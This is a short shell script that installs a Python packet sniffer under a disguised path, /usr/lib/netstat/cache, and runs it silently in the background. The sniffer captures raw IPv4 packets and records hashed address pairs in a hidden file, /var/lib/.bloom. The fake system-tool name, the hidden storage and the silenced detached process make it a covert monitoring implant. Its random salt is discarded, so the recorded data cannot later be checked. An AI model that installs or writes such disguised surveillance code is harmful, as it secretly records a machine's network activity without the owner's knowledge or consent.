#!/bin/sh
mkdir -p /usr/lib/netstat
cat >/usr/lib/netstat/cache <<'END'
import hashlib, mmap, os, socket
file = os.open('/var/lib/.bloom', os.O_RDWR | os.O_CREAT)
os.truncate(file, 1 << 20)
bits = mmap.mmap(file, 1 << 20)
os.close(file)
salt = os.urandom(16)
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800))
while True:
    packet = s.recv(64)
    at = int.from_bytes(hashlib.sha256(salt + packet[12:20]).digest()[:4], 'big') % (1 << 23)
    bits[at >> 3] |= 1 << (at & 7)
END
/usr/bin/python3 /usr/lib/netstat/cache >/dev/null 2>&1 </dev/null &
